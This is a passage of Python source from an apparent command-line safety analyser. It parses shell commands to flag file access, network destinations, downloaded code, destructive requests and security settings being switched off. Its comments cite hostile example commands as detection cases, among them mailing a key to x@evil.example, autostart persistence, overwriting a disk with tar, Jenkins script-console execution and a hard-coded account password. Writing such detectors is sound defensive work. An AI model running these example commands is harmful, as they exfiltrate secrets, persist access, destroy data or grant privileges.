        scheme = "https" if name in ("https", "xhs") else "http"
        _urls(
            [f"{scheme}://localhost{target}" if target.startswith(":") else f"{scheme}://{target}"],
            state,
            name,
        )
    return None


Handler = Any  # (argv, state, via, level, stdin) -> _Stream | None


def _widely_used_source(word: str) -> bool:
    """A package source that is a GitHub repository many projects use (`facts.packages`): `github:O/R`,
    `git+https://github.com/O/R.git@v1`, `https://github.com/O/R/archive/v1.tar.gz`."""
    from limen.facts.packages import used

    match = _GITHUB_SOURCE.search(word)
    return match is not None and used("github", f"{match.group(1)}/{match.group(2)}".lower())


_GITHUB_SOURCE = re.compile(
    r"(?:^|[\s@=+])(?:github:|(?:git\+)?(?:https://|ssh://git@|git@)github\.com[/:])"
    r"([A-Za-z0-9][\w.-]*)/([\w.-]+?)(?:\.git)?(?=[/@#?]|$)"
)
# A package source that is a repository rather than a registry's name: `git+https://...`, `github:user/repo`,
# `cargo install --git URL`, `pip install https://host/repo.git@v1`.
_VCS_SOURCE = re.compile(
    r"(?:^|[\s@=])(?:git|hg|svn|bzr)\+|^(?:github|gitlab|bitbucket):|^--git(?:=|$)|\.git(?:[@#]|$)"
)
# A source archive by its address (`pip install https://github.com/x/y/archive/main.zip`, PEP 508's `y @
# URL`): built, so its setup code runs, as a repository's does (a wheel, `.whl`, runs none)
_SOURCE_ARCHIVE = re.compile(
    r"^(?:[\w@./\[\],-]+?\s*@\s*)?https?://(?:\S+?\.(?:zip|tar\.gz|tgz|tar\.bz2|tar\.xz)(?:[#?]\S*)?"
    # (a forge's archive of a revision, and a requirement's name given one: `ethers@https://.../tarball/v6`)
    r"|[^/\s]+/[\w.-]+/[\w.-]+/(?:tarball|zipball)(?:/\S*)?|codeload\.github\.com/\S+)$",
    re.IGNORECASE,
)
# Programs that fetch a package and run its code: an installer's build scripts, a runner's program (`npx`).
_FETCHES_PACKAGES = frozenset({Role.PACKAGE_INSTALLER, Role.RUNNER})
# Programs that run the code of the folder they work in (a Makefile's recipes, package scripts, setup.py).
_RUNS_PROJECT_CODE = frozenset(
    {Role.PACKAGE_INSTALLER, Role.RUNNER, Role.BUILDS, Role.INTERPRETER, Role.SHELL}
)
# Programs that run (or build and run) a source file they are given
_RUNS_CODE_FILES = frozenset({Role.COMPILES, Role.RUNNER, Role.SCRIPT_HOST, Role.INTERPRETER, Role.BUILDS})
_RUNS_ARGUMENT = frozenset(
    {
        Role.RUNS_OPTION,
        Role.CONTAINER,
        Role.RUNNER,
        Role.DATABASE_CLIENT,
        Role.INFRA_DESTROYER,
        Role.STARTS_SHELL,
    }
)
_DYNAMIC_WORD = re.compile(r"^(\$[\w{(@*#?!$-]|`|<\()")


# Options that point an object store's client at another server (LocalStack, MinIO, another provider)
_ENDPOINT_OPTIONS = frozenset({"--endpoint-url", "--endpoint", "--s3-endpoint-url", "--host-base"})
# Options whose URL names the service a token is minted for, not a host the program contacts
# (`az account get-access-token --resource https://management.azure.com`, `--audiences`)
_AUDIENCE_OPTIONS = frozenset({"--resource", "--audience", "--audiences", "--aud"})


# SQL that changes a database's content or schema
_SQL_WRITE = re.compile(r"(?i)\b(?:insert|update|delete|replace|create|drop|alter|vacuum\s+into|attach)\b")


# In a configuration's text: a path it names (absolute or in a home folder, globs and braces allowed), a URL
_NAMED_PATH = re.compile(r"""(?<![\w:/.~-])((?:~|/)[\w.*{},@+-]+(?:/[\w.*{},@+-]+)+)""")
_NAMED_URL = re.compile(r"""\b(?:https?|wss?|tcp|udp|grpcs?)://[^\s"'`<>\])}]+""")


def _handed_configuration(operands: list[str], state: _State) -> None:
    """`cat > /tmp/.pt.yml <<EOF ... EOF; promtail -config.file=/tmp/.pt.yml`: a file the line wrote, handed
    to a program, is what the program does. When it names both files and an address (a log shipper's
    configuration: what to tail, where to push), the files are read and the address reached by this line."""
    for word in operands:
        value = word.split("=", 1)[1] if word.startswith("-") and "=" in word else word
        if not value or value.startswith("-") or "/" not in value:
            continue
        text = state.written.get(canonical(value, state.cwd, state.home))
        if not text:
            continue
        urls = _NAMED_URL.findall(text[:MAX_LINE])
        paths = [p for found in _NAMED_PATH.findall(text[:MAX_LINE]) for p in _braces(found, state)]
        if urls and paths:
            from limen.normalize import net

            for path in paths[:32]:
                _add_path(path, state, write=False)
            for url in urls[:8]:
                if (found := net.url_destination(url, via_command="configuration")) is not None:
                    state.destinations.append(found)


# An option that names what a command leaves out (`--exclude-files`, `--ignore`, `--skip-path`)
_LEAVES_OUT_OPTION = re.compile(r"--?(?:exclude|ignore|skip)[\w-]*(?:=|$)")


def _generic(argv: list[str], state: _State, name: str) -> None:
    """Paths and URLs among a command's operands."""
    operands = argv[1:]
    entry = program(name)
    if state.written:
        _handed_configuration(operands, state)
    if entry is not None and Role.EMBEDDED_DATABASE in entry.roles:
        # `sqlite3 FILE "INSERT ..."`: SQL that changes the database writes its file (a system's consent
        # database, a browser's profile)
        words = _operands(operands, entry.options)
        if len(words) > 1 and _SQL_WRITE.search(" ".join(words[1:])):
            _add_path(words[0], state, write=True)
    if entry is not None and entry.files is not None:
        skip = entry.files
        with_arg = entry.options
        if name in _SCRIPTED:
            with_arg = with_arg | _SCRIPT_OPTS
            if any(
                w in _SCRIPT_OPTS or w.startswith(("--expression=", "--regexp=", "--file=")) for w in operands
            ):
                skip = 0  # the script or pattern came with -e/-f: every operand is a file
        files = _operands(operands, with_arg)[skip:]
        for word in files:
            _add_path(word, state, write=Role.WRITES in entry.roles)
        if Role.COPIES in entry.roles and files:
            _add_path(files[-1], state, write=True)
            target = files[-1]
            into = target.endswith("/") or os.path.isdir(canonical(target, state.cwd, state.home))
            if len(files) > 1 and into:  # `cp x.desktop ~/.config/autostart/`: what lands in the folder
                for source in files[:-1][:16]:
                    base = source.rstrip("/").rsplit("/", 1)[-1]
                    if base and "$" not in base and "`" not in base:
                        _add_path(target.rstrip("/") + "/" + base, state, write=True)
    else:
        for i, word in enumerate(operands):
            value = word.split("=", 1)[1] if word.startswith("-") and "=" in word else word
            # (what an option leaves out is not read: `--exclude-files 'target/.*'`, `--ignore=.env`)
            named_by = word if "=" in word else (operands[i - 1] if i else "")
            if _looks_like_path(value) and not _LEAVES_OUT_OPTION.match(named_by):
                _add_path(value, state, write=False)
    texts = bool(entry and entry.text_verbs and operands[:1] and operands[0] in entry.text_verbs)
    if name not in _TEXT_ONLY and not texts:
        pushes = "push" in operands
        # an OCI reference fetched (`helm pull oci://public.ecr.aws/x`) is an image pulled, as `docker pull`;
        # a platform's own deployment named by its address is acted on through the platform's API
        addressed = [
            w
            for w in operands
            if (pushes or w[:6].lower() != "oci://") and not (entry and names_deployment(entry, w))
        ]
        audiences = _option_values(operands, _AUDIENCE_OPTIONS)
        addressed = [w for w in addressed if w not in audiences and w.partition("=")[2] not in audiences]
        endpoint = next((v for v in _option_values(argv[1:], _ENDPOINT_OPTIONS) if "://" in v), "")
        if endpoint:  # `aws --endpoint-url http://localhost:4566 s3 mb s3://b`: the bucket is at the endpoint
            from limen.facts.hosts import OBJECT_STORE_HOSTS

            stored = [w for w in addressed if w.partition("://")[0].lower() in OBJECT_STORE_HOSTS]
            addressed = [w for w in addressed if w not in stored] + ([endpoint] if stored else [])
        _urls(addressed, state, name)
        if name == "aws":  # `aws s3api put-object --bucket B --metadata k=$(...)`: what it writes goes to B
            _urls([f"s3://{bucket}/" for bucket in _s3api_written(operands)], state, name)
        if entry is None or Role.SERVER_CLIENT in entry.roles:
            # a tool the table does not know, or a server's client: the servers its words name by address
            _servers_named(operands, state, name)
    if entry is not None and Role.MAILS in entry.roles:  # `mail -a KEY x@evil.example`: the domain receives
        from limen.normalize import net

        for word in operands:
            if "@" in word and "://" not in word:
                found = net.recipient_destinations(word.split("=", 1)[-1])
                state.destinations.extend(replace(d, via_command=name) for d in found)
    if (
        entry is not None
        and Role.LOADS_CODE in entry.roles
        and re.search(entry.loads_library, " ".join(operands))
    ):
        state.flag(f"{name} loads a shared library it names (native code not analysed)")
    if entry is not None and entry.changes_settings and re.search(entry.changes_settings, " ".join(operands)):
        for settings in entry.settings_files:  # `claude config set ...`: a write of the agent's settings
            _add_path(settings, state, write=True)
    if name in ("sed", "perl") and any(re.fullmatch(r"-[a-zA-Z]*i.*|--in-place.*", w) for w in operands):
        scripted = any(w in _SCRIPT_OPTS or w.startswith("--expression=") for w in operands)
        for word in _operands(operands, _SCRIPT_OPTS)[0 if scripted else 1 :]:
            _add_path(word, state, write=True)
    if name == "dd":
        for word in operands:
            if word.startswith(("if=", "of=")):
                _add_path(word[3:], state, write=word.startswith("of="))
    if name in ("tar", "bsdtar", "gtar"):  # `tar -cf /dev/sdb ~/x`: the archive it creates is written
        _tar_archive(operands, state)
    _output_option(argv, state, name)


_CURL_DATA = frozenset(
    {"-d", "--data", "--data-raw", "--data-binary", "--data-urlencode", "--json", "-F", "--form"}
)
_HTTP_VERBS = {"POST": "create", "PUT": "set", "PATCH": "update", "DELETE": "delete"}


# A variable named for a service's address, with a path after it: the request's URL
_URL_VARIABLE = re.compile(r"(?i)\$\{?[a-z_]\w*(?:url|uri|endpoint|host|addr|base)\w*\}?/")


# A URL without its scheme, as curl takes one (http is implied): a host and port or a domain, then a path
_BARE_URL = re.compile(r"(?:localhost|[\w.-]+\.[a-z]{2,}|\d+\.\d+\.\d+\.\d+)(?::\d+)?/")


def _rest_request(argv: list[str], name: str) -> tuple[str, str, list[str]]:
    """An HTTP client's request as (method, URL, body parts): curl's `-X`/`--request` and data options,
    HTTPie's and xh's `METHOD URL key=value key:=json`, wget's `--method`/`--body-data`. A request with a
    body and no method is a POST, as the clients send it."""
    method, url, data = "", "", []
    args = argv[1:]
    for i, word in enumerate(args):
        following = args[i + 1] if i + 1 < len(args) else ""
        if word in ("-X", "--request", "--method") and following:
            method = following.upper()
        elif word.startswith(("-X", "--request=", "--method=")) and word not in ("-X", "--request"):
            method = word.split("=", 1)[1].upper() if "=" in word else word[2:].upper()
        elif (word in _CURL_DATA or word == "--body-data") and following:
            data.append(following)
        elif word.startswith(("--data=", "--json=", "--body-data=")):
            data.append(word.split("=", 1)[1])
        elif word.startswith("-"):
            continue
        elif name != "curl" and name != "wget" and word.upper() in _HTTP_METHODS and not method and not url:
            method = word.upper()  # `http DELETE api.github.com/repos/o/r`
        elif not url and (
            "://" in word
            or (name in HTTPIE_NAMES and re.match(r"[\w.-]+\.[a-z]{2,}/", word))
            # `curl -X POST localhost:9200/logs/_delete_by_query`
            or (name == "curl" and _BARE_URL.match(word))
            or _URL_VARIABLE.match(word)  # `"$UPSTASH_REDIS_REST_URL/flushall"`: a service's address, kept
        ):
            url = word
        elif name in HTTPIE_NAMES and url and re.match(r"[\w.-]+:?=", word):
            data.append(word)
    return method or ("POST" if data else "GET"), url, data


def _request_fields(data: list[str]) -> dict[str, object]:
    """The fields a request body sets: a JSON object's keys, `a=b&c=d` forms, HTTPie's `key=value` and
    `key:=json`; what cannot be read sets nothing."""
    import json

    fields: dict[str, object] = {}
    for part in data:
        text = part.strip()
        if text.startswith("{"):
            with contextlib.suppress(ValueError):
                parsed = json.loads(text)
                if isinstance(parsed, dict):
                    fields.update(parsed)
            continue
        if text.startswith("["):  # a list of entries (Keycloak's role mappings: `[{"name": "admin"}]`)
            with contextlib.suppress(ValueError):
                parsed = json.loads(text)
                if isinstance(parsed, list):
                    fields["items"] = parsed
            continue
        for pair in text.split("&"):
            key, sep, value = pair.partition("=")
            if not sep or not re.fullmatch(r"[\w.\[\]-]+:?", key):
                continue
            if key.endswith(":"):  # HTTPie's raw JSON: `enabled:=false`
                with contextlib.suppress(ValueError):
                    fields[key[:-1]] = json.loads(value)
                continue
            fields[key] = unquote(value)
    return fields


_SWITCH_VALUES = frozenset({"true", "false", "enabled", "disabled", "on", "off"})
_SETTING = re.compile(r"-{0,2}([A-Za-z_][\w.-]*)=(.*)", re.DOTALL)
# A long option that switches what it names off (`--no-auth`, `--disable-tls-verify`,
# `--skip-signature-check`) or on (`--enable-anonymous`)
_SWITCHED_OPTION = re.compile(r"--(no|disable|skip|without|enable)-([A-Za-z][\w.-]*)")


def _admin_settings(argv: list[str], entry: Program | None, state: _State) -> None:
    """An administration CLI's invocation that changes what it controls, with the settings it writes as
    `key=value` words (`vault write auth/approle/role/ci token_policies=root`, `kcadm.sh update realms/r
    -s bruteForceProtected=false`, `--strict-ssl=false`), as options (`--require-mfa false`, `--role
    owner`, `--no-auth`, `--insecure`) or as a path and a value after a sub-command of its `setting_pairs`
    (`bin/magento config:set admin/captcha/enable 0`), judged as the MCP tool call it equals: its
    sub-command and resource name the tool, the settings its arguments (`normalize.tools.changes_controls`).
    A program the table does not know (`entry` None) is read so whatever its sub-command, its name too
    (`zorkctl audit disable`): what it does to a control is the table of controls' to say, by the words it
    is given."""
    from limen.normalize.tools import changes_controls, reading_subcommand, settings_send_to

    words = argv[1:]
    line = " ".join(words)
    if entry is not None and not re.search(entry.changes, line):
        return
    named: list[str] = []
    fields: dict[str, object] = {}
    for sub in entry.setting_pairs if entry is not None else ():
        found = re.search(rf"(?<!\S){re.escape(sub)}(?!\S)", line)
        operands = [w for w in line[found.end() :].split() if not w.startswith("-")] if found else []
        if len(operands) >= 2:  # (a value with spaces is its last words' first: a switch is one word)
            value = operands[-1] if len(operands) == 2 else operands[1]
            fields[operands[0]] = {"true": True, "false": False}.get(value.lower(), value)
            named = sub.split()
            break
    if entry is None:
        named, fields = _set_operands(words)
    paired = bool(named)
    taken = False  # the word is the value of the option before it
    for i, word in enumerate(words[:64]):
        if taken:
            taken = False
            continue
        following = words[i + 1] if i + 1 < len(words) else ""
        if word.startswith("--") and following.lower() in _SWITCH_VALUES:  # `--anonymous-pull-enabled true`
            fields[word[2:]] = following.lower() in ("true", "enabled", "on")
            taken = True
            continue
        if word.startswith("-") and following.startswith("{"):  # `--data '{"enabled": false}'`, `-b '{...}'`
            fields.update(_request_fields([following]))
            taken = True
            continue
        setting = _SETTING.fullmatch(word)
        # (a program the table does not know has no entry to say what its options mean: they are read
        # by their words, as its settings)
        unknown_option = entry is None and word.startswith("--") and len(word) > 3
        switched = _SWITCHED_OPTION.fullmatch(word) if setting is None and unknown_option else None
        if setting:
            value = setting.group(2)
            fields[setting.group(1)] = {"true": True, "false": False}.get(value.lower(), value)
        elif switched:  # `--no-auth` reads as `auth: false`
            fields[switched.group(2)] = switched.group(1) == "enable"
        elif unknown_option and (not following or following.startswith("-")):
            fields[word[2:]] = True  # `--insecure`, `--allow-anonymous`: a switch given alone is on
        elif unknown_option:
            fields[word[2:]] = following  # `--role superuser`: what the option takes is not known, so
            taken = True  # the word after it is its value
        elif not word.startswith("-") and "://" not in word and len(named) < 3 and not paired:
            named.append(word)
    # what it destroys is its table entry's to say (`destroys_all`, `destroys_one`)
    if (
        (fields or entry is None)
        and not _aims_at_loopback_only(words)
        and (what := changes_controls("_".join((_basename(argv[0]), *named)), fields))
    ):
        state.notes.append(what)
    if not (entry is None and reading_subcommand(words)):
        # `vault audit enable socket address=collector.example:9090`: where the service will send; a
        # sub-command that only reads (`pac solution list --environment URL`) names where it reads from
        state.notes.extend(settings_send_to(fields))


# A word that names a machine: a URL, or `HOST:PORT` with an optional user (`localhost:9090`, `u@10.0.0.5:22`)
_HOST_PORT = re.compile(r"^(?:[^@/\s]*@)?(\[[\w:]+\]|[\w.-]+):\d{1,5}(?:/\S*)?$")


def _aims_at_loopback_only(words: list[str]) -> bool:
    """Every address the command's words name is this machine's (`ghz --insecure ... localhost:9090`): a
    client's check left out against a server of its own machine switches nothing off for anyone else."""
    from urllib.parse import urlsplit

    from limen.model import HostClass
    from limen.normalize import net

    hosts = []
    for word in words[:64]:
        value = word.split("=", 1)[-1]
        if "://" in value:
            with contextlib.suppress(ValueError):
                hosts.append(urlsplit(value).hostname or "")
        elif found := _HOST_PORT.match(value):
            hosts.append(found.group(1).strip("[]"))
    return bool(hosts) and all(
        host and net.host_destination(host).host_class is HostClass.LOOPBACK for host in hosts
    )


def _password_given(argv: list[str], state: _State) -> None:
    """An account made, or its password set, to a password the line writes out (`kadmin -q "addprinc -pw
    Kerb!Backup24 backup/admin"`, `ldappasswd -s 'Winter2024!' uid=x`): whoever wrote the line can log in
    as it, whatever the program. A password read from a variable, a prompt or a file is none."""
    from limen.facts.secrets import ACCOUNT_PASSWORD_VERB, PASSWORD_SHAPE
    from limen.normalize.tools import ADMIN_GRANTED

    line = " ".join(argv[:32])
    if len(line) > 4096 or not ACCOUNT_PASSWORD_VERB.search(line):
        return
    words = line.split()[:64]
    for i, word in enumerate(words):
        value = (word.partition("=")[2] if word.startswith("-") else word).strip("'\"")
        if not 8 <= len(value) <= 64 or "$" in value or "/" in value or not PASSWORD_SHAPE.match(value):
            continue
        # (a word of letters and digits alone, `MyApp2024`, is a password only where an option says so)
        named = i > 0 and _PASSWORD_OPTION.fullmatch(words[i - 1]) is not None
        if named or _MARKED.search(value):
            state.notes.append(f"{ADMIN_GRANTED}an account given a password the line writes out ({argv[0]})")
            return


_PASSWORD_OPTION = re.compile(r"(?i)-{1,2}(?:p|pw|pass\w*|passwd|new-?password)")
_MARKED = re.compile(r"[!@#$%^&*?~+=]")


# A sub-command that sets what its operands name (`set`, `set-param`, `config:set`, `param-set`)
_SETS = re.compile(r"(?:[\w-]+[-_:])?set(?:[-_:][\w-]+)?")


def _set_operands(words: list[str]) -> tuple[list[str], dict[str, object]]:
    """A program's `set` sub-command and the setting its operands make: a name and a value after it
    (`zorkctl set-param ENCRYPTION_ENABLED 0`), or a value after it and the name before it (`zorkctl
    token-ttl set 87600h`); the words that name the call and the setting, else nothing."""
    operands = [w for w in words[:16] if not w.startswith("-")]
    at = next((i for i, w in enumerate(operands[:4]) if _SETS.fullmatch(w)), None)
    if at is None:
        return [], {}
    after = operands[at + 1 :]
    if len(after) == 2:
        return operands[: at + 1], {after[0]: {"true": True, "false": False}.get(after[1].lower(), after[1])}
    if len(after) == 1 and at > 0:
        return operands[: at + 1], {operands[at - 1]: after[0]}
    return [], {}


# A payment service's test mode: its test keys (`sk_test_...`, `$STRIPE_TEST_KEY`), its sandbox and test hosts
_TEST_MODE = re.compile(r"(?i)\b[rs]k_test_|\$\{?\w*TEST\w*|(?:^|[.-])(?:sandbox|test)[.-]|sandbox\.")


# The endpoints of a server's console that run the script a request sends (Jenkins' Groovy console)
_SCRIPT_CONSOLES = frozenset({"scriptText", "script"})


def _api_call(argv: list[str], name: str, state: _State, via: tuple[str, ...]) -> None:
    """A write request to a service's API is judged as the MCP tool call it equals: the method and the URL's
    path name the tool (`PATCH .../settings/ssl` is `update_..._settings_ssl`), the body its arguments, so
    the table of controls (`normalize.tools.changes_controls`: a protection or a check switched off,
    administrator access granted) judges `curl`, HTTPie and wget as it judges MCP tools. GitHub's API is also
    recorded as the `gh api` call it equals (`curl -X DELETE https://api.github.com/repos/o/r` is `gh api -X
    DELETE repos/o/r`), so the program table's facts about `gh api` judge it."""
    from limen.model import HostClass
    from limen.normalize import net
    from limen.normalize.tools import BULK_TARGET, PRODUCTION_TARGET, service_call_notes

    method, url, data = _rest_request(argv, name)
    if method not in _HTTP_VERBS or not url:
        return
    address = url.split("://", 1)[-1]
    host, _, path = address.partition("/")
    query = path.partition("?")[2]
    path = path.split("?", 1)[0].split("#", 1)[0]
    segments = [unquote(p) for p in path.split("/") if p]
    # every item at once: `DELETE /logs-*`, `POST /admin/devices/all/rollout`, a delete told to match
    # everything (`POST /api/v1/admin/tsdb/delete_series?match[]={__name__=~".+"}`, `_delete_by_query` with
    # `match_all`)
    bulk = any(p.lower() in ("all", "*", "_all") or _PATH_WILDCARD.search(p) for p in segments) or (
        _DESTROYING_PATH.search(path) is not None
        and _MATCHES_ALL.search(unquote(" ".join((query, *data)))) is not None
    )
    target = net.url_destination(url if "://" in url else f"http://{url}")
    if target is not None and target.host_class == HostClass.LOOPBACK:
        # the developer's own server on this machine: its admin user is a test account, but its data is
        # what the server holds (a monitoring server's history, a search index), which a bulk delete takes
        if bulk and not re.search(SCRATCH_RESOURCE, path):  # (`DELETE /test_*`: the tests' own indices)
            state.notes.append(BULK_TARGET + path[:80])
        return
    if host.lower() == "api.github.com":
        _record(state, Command(argv=("gh", "api", "-X", method, path, *data), name="gh", via=(*via, name)))
    fields = _request_fields(data)
    if method != "GET" and "?" in address:  # a write's query parameters are its arguments too
        for key, value in _request_fields([address.split("?", 1)[1].split("#", 1)[0]]).items():
            fields.setdefault(key, unquote(value) if isinstance(value, str) else value)
    if segments and segments[-1] in _SCRIPT_CONSOLES and method != "GET":
        state.flag(f"{name} runs a script on {host} through its script console")  # Jenkins' `/scriptText`
    if segments and set(fields) <= {"value", "enabled", "status", "mode"} and fields:
        # a setting named by its path and set by the body (`.../settings/ssl` `{"value": "off"}`)
        fields[segments[-1]] = next(iter(fields.values()))
    from limen.facts.hosts import issuers_for_host

    service = "_".join(sorted(issuers_for_host(host.split(":", 1)[0].lower())))  # `pagerduty`
    # a payment service's test mode (a test key, a sandbox host) moves no one's money
    rehearsal = bool(_TEST_MODE.search(" ".join((host, *argv))))
    for note in service_call_notes("_".join((_HTTP_VERBS[method], *segments)), fields, service):
        if not (rehearsal and note.startswith(PRODUCTION_TARGET + "money moved")):
            state.notes.append(note)
    if bulk:
        state.notes.append(BULK_TARGET + path[:80])
    if method == "POST" and isinstance(fields.get("query"), str):  # a GraphQL endpoint's mutations
        from limen.normalize.graphql import mutation_notes

        state.notes.extend(mutation_notes([str(fields["query"])], service)[1])


# A name in a request's path that stands for many (`logs-*`, `magento2_*,.kibana*`), not a masked `****`
_PATH_WILDCARD = re.compile(r"[\w.-]\*|\*[\w.,-]")
# A request path that deletes (`delete_series`, `_delete_by_query`, `/purge`, `flushall`), and a selector
# that matches everything (a regex `.+` or `.*`, Elasticsearch's `match_all`, a bare `*` value)
_DESTROYING_PATH = re.compile(r"(?i)(?:^|[/_-])(?:delete|purge|drop|wipe|truncate|flush\w*|erase)(?:[/_-]|$)")
_MATCHES_ALL = re.compile(r"\.[*+]|\bmatch_all\b|[=:]\s*[\"']?\*[\"']?(?:[&,}\s]|$)")
_UNPACKERS = frozenset({"tar", "bsdtar", "gtar", "unzip"})


def _extracting(name: str, args: list[str]) -> bool:
    return name == "unzip" or any(
        w in ("--extract", "--get") or re.fullmatch(r"-?[A-Za-z]*x[A-Za-z]*", w) for w in args[:3]
    )


def _unpacked_into(name: str, args: list[str], state: _State) -> None:
    """What an unpacking archiver writes when it is told where (`tar xzf A -C /usr/local/bin stripe`, `unzip
    A -d /opt/x`): the members it names there, or the folder: as `cp` would write them."""
    if not _extracting(name, args):
        return
    into, members, skip = "", [], False
    archive_taken = name != "unzip"
    for i, word in enumerate(args):
        if skip:
            skip = False
            continue
        following = args[i + 1] if i + 1 < len(args) else ""
        if word in ("-C", "--directory", "-d") and following:
            into, skip = following, True
        elif word.startswith("--directory="):
            into = word.split("=", 1)[1]
        elif name != "unzip" and re.fullmatch(r"-?[A-Za-z]*f", word) and following:
            skip = True  # the archive
        elif word.startswith("-") or (i == 0 and name != "unzip" and re.fullmatch(r"[A-Za-z]+", word)):
            continue  # an option, or tar's first word of letters (`xzf`)
        elif not archive_taken:
            archive_taken = True  # unzip's archive comes first
        else:
            members.append(word)
    if not into or "$" in into:
        return
    for member in members or [""]:
        _add_path(f"{into.rstrip('/')}/{member}" if member else into, state, write=True)


def _unpacks_download(name: str, args: list[str], state: _State, stdin: _Stream | None) -> None:
    """`curl URL | tar xz -C /tmp`, `wget URL/x.zip && unzip x.zip -d out`: an archive the line downloaded,
    unpacked into a folder, whose files are then downloaded code (`state.unpacked`)."""
    fed = stdin is not None and any(s in DOWNLOADERS for s in stdin.sources)
    into = "."
    archive = ""
    for i, word in enumerate(args):
        following = args[i + 1] if i + 1 < len(args) else ""
        if word in ("-C", "--directory", "-d") and following:
            into = following
        elif word.startswith("--directory="):
            into = word.split("=", 1)[1]
        elif name == "unzip" and not word.startswith("-") and not archive:
            archive = word
        elif name != "unzip" and re.fullmatch(r"-?[A-Za-z]*f", word) and following:
            archive = following
    extracting = _extracting(name, args)
    downloaded = bool(archive) and (
        archive in state.downloaded or canonical(archive, state.cwd, state.home) in state.downloaded
    )
    if extracting and (fed or downloaded):
        state.unpacked.add(canonical(into, state.cwd, state.home).rstrip("/"))


def _tar_archive(args: list[str], state: _State) -> None:
    """The archive a creating tar (`-c`, `-r`, `-u`, their long names, or a first word like `czf`) writes:
    the value of `-f`/`--file`, glued to its cluster's `f` or the word after it."""
    first = args[0] if args else ""
    creates = any(w in ("--create", "--append", "--update") for w in args) or any(
        re.fullmatch(r"-?[A-Za-z]*[cru][A-Za-z]*", w) and ("f" in w or w.startswith("-")) for w in args[:3]
    )
    if not creates:
        return
    for i, word in enumerate(args):
        value = ""
        if word.startswith("--file="):
            value = word.split("=", 1)[1]
        elif word == "--file" or (
            re.fullmatch(r"-?[A-Za-z]*f", word) and (word.startswith("-") or word == first)
        ):
            value = args[i + 1] if i + 1 < len(args) else ""
        if value and value != "-":
            _add_path(value, state, write=True)
            return


def _output_option(argv: list[str], state: _State, name: str) -> None:
    """The file a downloader saves to (its table entry's `output_options`), marked downloaded: a line or a
    later call that runs it runs what was fetched. (A decoder's output, `openssl enc -d -out F`, is what it
    decoded here: the decoders' own checks judge it.)"""
    entry = program(name)
    if entry is None or Role.DOWNLOADS not in entry.roles or Role.DECODER in entry.roles:
        return
    short = next((o for o in entry.output_options if len(o) == 2), "")
    long = next((o for o in entry.output_options if o.startswith("--")), "")
    for i, word in enumerate(argv[1:], 1):
        target = ""
        if word in entry.output_options and i + 1 < len(argv):
            target = argv[i + 1]
        elif long and word.startswith(long + "="):
            target = word.split("=", 1)[1]
        elif short and word.startswith(short) and len(word) > 2 and not word.startswith("--"):
            target = word[2:]
        elif short and _CLUSTER.fullmatch(word) and word.endswith(short[1]) and i + 1 < len(argv):
            target = argv[i + 1]  # `curl -so FILE`, `wget -qO FILE`: flags clustered before the output one
        if target and target != "-":
            path = canonical(target, state.cwd, state.home)
            state.write_paths.append(path)
            state.paths.append(path)
            state.downloaded.add(path)
            state.downloaded.add(target)
            return
    # no output named: wget (and curl -O) save under the URL's last name, in the working folder
    saves = name == "wget" or any(
        w in ("-O", "--remote-name") or re.fullmatch(r"-[A-Za-z]*O", w) for w in argv
    )
    to_stdout = any(w == "--spider" or w.endswith(("O-", "=-")) for w in argv)  # `wget -qO- URL`
    if saves and not to_stdout:
        for word in argv[1:]:
            if "://" in word and not word.startswith("-"):
                base = word.split("?", 1)[0].rstrip("/").rsplit("/", 1)[-1]
                if base and "$" not in base:
                    state.downloaded.update((base, canonical(base, state.cwd, state.home)))


_SPACE = re.compile(r"\s")
_SCRIPTED = names(Role.SCRIPT_FIRST)  # the first operand is a script unless -e/-f gave it
_SCRIPT_OPTS = frozenset({"-e", "-f", "--expression", "--file", "--regexp"})
_PATHY = re.compile(r"^(~|\.{1,2}(/|$)|/)|/|^\.?[\w-]+\.[\w]{1,10}$|^\.[A-Za-z][\w.-]*$")  # `.env` too


def _looks_like_path(word: str) -> bool:
    if not word or word.startswith("-") or "://" in word or len(word) > 4096:
        return False
    if _SPACE.search(word) is not None and (
        "\n" in word or not word.startswith(("/", "~/", "./", "../"))
    ):  # `~/.config/google-chrome/Default/Login Data`: a file name may hold a space, prose seldom starts so
        return False
    if "@" in word and ":" in word:
        return False
    return bool(_PATHY.search(word))


def _add_path(word: str, state: _State, *, write: bool) -> None:
    if not word or word == "-" or "://" in word or len(word) > 4096:
        return
    if any(c in word for c in "*?["):
        _glob_paths(word, state, write)
        if any(part[:1] in ("*", "?", "[") for part in word.split("/")):
            return  # `*` never matches `.env`: its matches and probes stand for it (see the module notes)
    path = canonical(word, state.cwd, state.home)
    state.paths.append(path)
    if write:
        state.write_paths.append(path)


def _add_path_operands(word: _Word, state: _State) -> None:
    for text in word.fields:
        if _looks_like_path(text):
            _add_path(text, state, write=False)


def _add_glob(word: _Word, state: _State) -> None:
    """An unquoted glob in any command's arguments touches what it matches (see the module notes)."""
    for text in word.fields:
        if any(c in text for c in "*?[") and not text.startswith("-"):
            _glob_paths(text, state, False)


GLOB_LISTINGS = 8  # directories a glob may list
GLOB_ENTRIES = 500  # directory entries it may look at, all listings together


def _command_glob(pattern: str, state: _State) -> list[str] | None:
    """What a command name that globs expands to, sorted as bash sorts it (the first match runs, the others
    are its first arguments); [] when nothing matches (bash runs the word as it is), None when the expansion
    ran past its budget (the command is not known)."""
    absolute = pattern if pattern.startswith("/") else os.path.join(state.cwd, pattern)
    matches = _bounded_glob(absolute, state)
    if "glob expansion truncated" in state.notes:  # this expansion's, or an earlier one's: not known
        return None
    if pattern.startswith("/"):
        return sorted(matches)
    return sorted(os.path.relpath(m, state.cwd) for m in matches)


def _bounded_glob(pattern: str, state: _State) -> list[str]:
    """Expand an absolute glob with a fixed budget of directory listings (`/*/*/*` must not walk the disk)."""
    candidates = [""]
    listings = entries = 0
    for part in pattern.split("/")[1:]:
        if not any(c in part for c in "*?["):
            candidates = [f"{c}/{part}" for c in candidates]
            continue
        match = re.compile(fnmatch.translate(part)).match
        grown: list[str] = []
        for directory in candidates:
            if listings >= GLOB_LISTINGS or entries >= GLOB_ENTRIES:
                state.note("glob expansion truncated")
                break
            listings += 1
            try:
                with os.scandir(directory or "/") as it:
                    for entry in it:
                        entries += 1
                        if entries > GLOB_ENTRIES:
                            state.note("glob expansion truncated")  # the rest of the folder is unread
                            break
                        if match(entry.name) and (part.startswith(".") or not entry.name.startswith(".")):
                            grown.append(f"{directory}/{entry.name}")
            except (OSError, ValueError):
                continue
        candidates = grown[:MAX_GLOB_MATCHES]
        if not candidates:
            return []
    return [c for c in candidates if os.path.lexists(c)]


@functools.lru_cache(maxsize=512)
def _probe(part: str, dotfiles: bool = False) -> str | None:
